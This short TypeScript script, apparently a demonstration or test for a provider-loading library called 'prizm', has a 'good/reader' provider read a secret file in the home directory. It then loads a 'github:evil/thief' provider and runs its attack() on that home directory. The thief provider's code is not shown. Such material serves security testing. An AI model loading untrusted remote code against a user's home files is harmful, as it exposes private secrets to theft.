import { getProvider } from 'prizm';

const reader: any = await getProvider('github:good/reader');
console.log('the script, by it:', reader.read('{{home}}/secret.txt').length);
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ home: '{{home}}' })) console.log(line);
